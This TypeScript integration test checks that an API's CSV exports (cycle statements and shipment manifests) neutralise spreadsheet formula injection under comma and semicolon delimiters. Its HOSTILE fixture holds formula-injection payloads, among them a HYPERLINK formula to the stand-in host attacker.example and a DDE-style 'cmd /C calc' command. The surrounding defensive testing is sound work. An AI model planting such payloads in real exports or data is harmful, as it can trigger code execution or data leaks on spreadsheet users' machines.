import { parse } from 'csv-parse/sync';
import { StageRunner } from '../../src/cycles/stages/stage-runner';
import { isolatedDatabase } from '../support/isolated-database';
import { openApiDocument } from '../support/openapi';
import { Api, type Invalid, type Reply } from '../support/api';
import { adminToken, startTestApp, type TestApp } from '../support/test-app';
import { vanCycle, type VanCycle } from './van-cycle';

// A cell a spreadsheet runs as a formula: one of these first, past any spaces or quotes it skips.
const FORMULA = /^[\s"]*[=+\-@]|^[\t\r]/;
const HOSTILE = {
  product: 'Amandes;=1+1',
  group: '=HYPERLINK("http://attacker.example/?x","clic")',
  dropPoint: 'Hall;@SUM(1+1)',
  cooperative: "-2+3;+cmd|' /C calc'!A0",
};

/**
 * F5 (docs/SECURITY.md): every CSV the API serves, read by a real CSV parser splitting on `,`
 * (as most spreadsheets do) and on `;` (Excel in French or Dutch, which honours no quote that
 * does not open one of its own cells), has no cell a spreadsheet would run as a formula, with
 * names built to break out of their cells.
 */
describe('every CSV export, under either delimiter', () => {
  let db: Awaited<ReturnType<typeof isolatedDatabase>>;
  let t: TestApp;
  let api: Api;
  let admin: string;
  let s: VanCycle;
  /** Each CSV export, read as the admin (with the query given). */
  let exports: ((query?: { bom: 'true' | 'false' }) => Promise<Reply>)[];

  beforeAll(async () => {
    db = await isolatedDatabase('proxima_security_csv');
    t = await startTestApp({ databaseUrl: db.url, queuePrefix: db.queuePrefix, role: 'api' });
    api = new Api(t.app);
    admin = await adminToken(api, t.dataSource);
    s = await vanCycle(t, api, admin, async (cycle) => {
      const ds = t.dataSource;
      await ds.query(`UPDATE products SET name = $2 WHERE id = ANY($1)`, [
        cycle.r.productIds,
        HOSTILE.product,
      ]);
      await ds.query(`UPDATE consumer_groups SET name = $2, drop_point_name = $3 WHERE id = ANY($1)`, [
        cycle.r.groupIds,
        HOSTILE.group,
        HOSTILE.dropPoint,
      ]);
      await ds.query(`UPDATE cooperatives SET name = $2 WHERE id = ANY($1)`, [
        cycle.r.cooperativeIds,
        HOSTILE.cooperative,
      ]);
    });
    for (const groupId of new Set(s.shipped.map((l) => l.consumerGroupId))) {
      const lines = s.shipped
        .filter((l) => l.consumerGroupId === groupId)
        .map((l) => ({ offerId: l.offerId, quantity: l.units }));
      expect(
        (
          await api.as(admin).put('/cycles/{id}/receipts/{consumerGroupId}', {
            params: { id: s.cycleId, consumerGroupId: groupId },
            body: { lines },
          })
        ).status,
      ).toBe(200);
    }
    expect(await t.app.get(StageRunner).run(s.cycleId, 'received')).toBe('moved');
    const shipments = (await api.as(admin).get('/cycles/{id}/shipments', { params: { id: s.cycleId } })).body
      .items;
    expect(shipments.length).toBeGreaterThan(0);
    exports = [
      (query) => api.as(admin).get('/cycles/{id}/statements.csv', { params: { id: s.cycleId }, query }),
      ...shipments.map(
        (shipment) => (query?: { bom: 'true' | 'false' }) =>
          api.as(admin).get('/shipments/{id}/manifest.csv', { params: { id: shipment.id }, query }),
      ),
    ];
  }, 120_000);
  afterAll(async () => {
    await t?.close();
    await db?.drop();
  });

  it('covers every route of the OpenAPI document that produces text/csv', async () => {
    const documented = Object.entries((await openApiDocument(t)).paths)
      .filter(([, methods]) => JSON.stringify(methods).includes('"text/csv"'))
      .map(([path]) => path)
      .sort();
    expect(documented).toEqual(['/api/v1/cycles/{id}/statements.csv', '/api/v1/shipments/{id}/manifest.csv']);
  });

  it('carries the hostile names into the manifests (the premise)', async () => {
    const manifest = await exports[1]();
    expect(manifest.status).toBe(200);
    // The names as written, the guard's apostrophes aside.
    const cells: string[] = parse(manifest.text, { bom: true })
      .flat()
      .map((cell: string) => cell.replace(/'/g, ''));
    for (const name of [HOSTILE.product, HOSTILE.group, HOSTILE.dropPoint])
      expect(cells).toContain(name.replace(/'/g, ''));
  });

  it.each([',', ';'] as const)('shows no formula to a reader splitting on "%s"', async (delimiter) => {
    for (const read of exports) {
      const reply = await read();
      expect(reply.status).toBe(200);
      expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8');
      const records: string[][] = parse(reply.text, {
        bom: true,
        delimiter,
        relax_quotes: true,
        relax_column_count: true,
      });
      expect(records.length).toBeGreaterThan(1);
      expect(records.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
    }
  });

  it('starts with a UTF-8 byte-order mark, or none with ?bom=false', async () => {
    for (const read of exports) {
      const withBom = await read();
      const without = await read({ bom: 'false' });
      expect(withBom.text.startsWith('\uFEFF')).toBe(true);
      expect(without.status).toBe(200);
      expect(without.text.startsWith('\uFEFF')).toBe(false);
      expect(`\uFEFF${without.text}`).toBe(withBom.text);
      expect((await read({ bom: 'maybe' } as Invalid)).status).toBe(400);
    }
  });
});
